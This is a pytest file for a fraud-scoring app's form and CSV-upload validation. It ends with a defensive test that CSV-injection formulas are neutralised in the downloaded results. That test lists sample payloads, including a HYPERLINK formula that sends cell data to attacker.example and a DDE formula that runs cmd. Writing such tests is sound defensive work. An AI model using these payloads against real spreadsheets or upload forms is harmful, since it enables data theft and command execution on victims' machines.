"""Form values and uploaded CSV files: what is accepted, and errors that name the bad field, column or line."""

import csv
from pathlib import Path

import pandas as pd
import pytest
from fraud_app.batch import MAX_ROWS, BatchError, read_transactions, write_result
from fraud_app.features import EXAMPLES, FEATURE_NAMES, NO, YES, FeatureError, transaction_row

NORMAL = {"distance_from_home": 2.0, "distance_from_last_transaction": 0.5, "ratio_to_median_purchase_price": 0.9,
          "repeat_retailer": YES, "used_chip": YES, "used_pin_number": NO, "online_order": NO}


def test_form_values_become_a_row_in_model_order() -> None:
    assert transaction_row(NORMAL) == [2.0, 0.5, 0.9, 1.0, 1.0, 0.0, 0.0]


def test_examples_include_the_two_demo_rows_and_are_valid() -> None:
    assert len(EXAMPLES) >= 4
    assert EXAMPLES[0].values == (57.87785658389723, 0.3111400080477545, 1.9459399775518593, 1, 1, 0, 0)
    assert EXAMPLES[1].values == (15.694985541059943, 175.98918151972342, 0.8556228290724207, 1, 0, 0, 1)
    for example in EXAMPLES:
        transaction_row(dict(zip(FEATURE_NAMES, example.values, strict=True)))


@pytest.mark.parametrize(("field", "value", "message"), [
    ("distance_from_home", None, "Distance from home is required"),
    ("distance_from_last_transaction", -1, "Distance from last transaction must be a finite number >= 0, got -1"),
    ("ratio_to_median_purchase_price", "abc", "Ratio to median purchase price must be a number, got 'abc'"),
    ("ratio_to_median_purchase_price", float("inf"), "must be a finite number >= 0"),
    ("distance_from_home", "1e39", "Distance from home must be at most 3.403e+38 (the model's float32 range), got "
                                   "'1e39'"),
    ("used_chip", None, "Used chip is required: choose Yes or No"),
    ("online_order", "maybe", "Online order must be Yes or No, got 'maybe'"),
])
def test_bad_form_value_is_named(field: str, value: object, message: str) -> None:
    with pytest.raises(FeatureError) as raised:
        transaction_row({**NORMAL, field: value})
    assert message in str(raised.value)


def _csv(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "transactions.csv"
    path.write_text(text)
    return path


HEADER = ",".join(FEATURE_NAMES)


def test_csv_with_extra_columns_and_spaces_is_read(tmp_path: Path) -> None:
    frame = read_transactions(_csv(tmp_path, f"{HEADER.replace(',', ', ')},fraud\n1, 2, 3, 1, 0, 0.0, 1.0, 1\n"))
    assert list(frame.columns) == [*FEATURE_NAMES, "fraud"]
    assert frame.loc[0, list(FEATURE_NAMES)].tolist() == [1.0, 2.0, 3.0, 1.0, 0.0, 0.0, 1.0]
    assert frame.loc[0, "fraud"] == "1"


def test_missing_columns_are_named(tmp_path: Path) -> None:
    header = HEADER.replace("used_chip", "chip").replace("online_order,", "").replace(",online_order", "")
    with pytest.raises(BatchError, match=r"Missing column\(s\): used_chip, online_order\. .* found: .*chip"):
        read_transactions(_csv(tmp_path, f"{header}\n1,2,3,1,0,0\n"))


@pytest.mark.parametrize(("rows", "message"), [
    (["1,2,3,1,0,0,1", "1,-2,3,1,0,0,1"], "Column distance_from_last_transaction must hold a number from 0 to "
                                          "3.403e+38; bad values on CSV line(s) 3."),
    (["1,2,x,1,0,0,1", "1,2,,1,0,0,1"], "Column ratio_to_median_purchase_price must hold a number from 0 to "
                                        "3.403e+38; bad values on CSV line(s) 2, 3."),
    (["1,2,3,1,0,0,1", "1,2,3,1,0,0,1", "1e39,2,3,1,0,0,1"], "Column distance_from_home must hold a number from 0 "
                                                             "to 3.403e+38; bad values on CSV line(s) 4."),
    (["1,2,3,2,0,0,1"], "Column repeat_retailer must hold 0 or 1; bad values on CSV line(s) 2."),
    (["1,2,3,1,yes,0,1"] * 7, "Column used_chip must hold 0 or 1; bad values on CSV line(s) 2, 3, 4, 5, 6 "
                               "and 2 more."),
])
def test_bad_values_are_named_by_column_and_line(tmp_path: Path, rows: list[str], message: str) -> None:
    with pytest.raises(BatchError) as raised:
        read_transactions(_csv(tmp_path, "\n".join([HEADER, *rows]) + "\n"))
    assert str(raised.value) == message


@pytest.mark.parametrize(("text", "message"), [
    ("", "The file is empty"),
    (f"{HEADER}\n", "no transactions"),
    ("\x00\xff\xfe binary", "Missing column"),
])
def test_unusable_files_get_a_message(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(BatchError, match=message):
        read_transactions(_csv(tmp_path, text))


def test_too_many_rows_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    pd.DataFrame([[1, 2, 3, 1, 0, 0, 1]] * (MAX_ROWS + 1), columns=FEATURE_NAMES).to_csv(path, index=False)
    with pytest.raises(BatchError, match=f"{MAX_ROWS + 1:,} transactions; at most {MAX_ROWS:,}"):
        read_transactions(path)


# Uploaded text a spreadsheet would run (OWASP CSV injection), and what the scored download holds instead.
FORMULAS = {
    '=HYPERLINK("http://attacker.example/?"&A1,"click")': '\'=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tx": "'\tx",
    "-5": "-5",
    "3.5e2": "3.5e2",
    "plain note": "plain note",
}


def test_the_download_neutralises_formula_cells_and_headers(tmp_path: Path) -> None:
    """Cells and column names starting with =, +, -, @, tab or CR are written with a leading quote (text in a
    spreadsheet), every text cell is quoted; plain numbers, the features and the probability are unchanged."""
    rows = "".join(f"1,2,3,1,0,0,1,{csv_field(text)}\n" for text in FORMULAS)
    frame = read_transactions(_csv(tmp_path, f"{HEADER},=note\n{rows}"))
    frame.insert(0, "fraud_probability", 0.25)
    path = write_result(frame, tmp_path)
    with path.open(newline="") as handle:
        header, *lines = list(csv.reader(handle))
    assert header == ["fraud_probability", *FEATURE_NAMES, "'=note"]
    assert [line[-1] for line in lines] == list(FORMULAS.values())
    assert all(line[:8] == ["0.25", "1.0", "2.0", "3.0", "1.0", "0.0", "0.0", "1.0"] for line in lines)
    raw = path.read_text().splitlines()  # numbers bare, text quoted
    assert raw[1].startswith("0.25,1.0,2.0,3.0,")
    assert raw[1].endswith('"\'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"')


def csv_field(text: str) -> str:
    """``text`` as one CSV field."""
    return '"' + text.replace('"', '""') + '"'
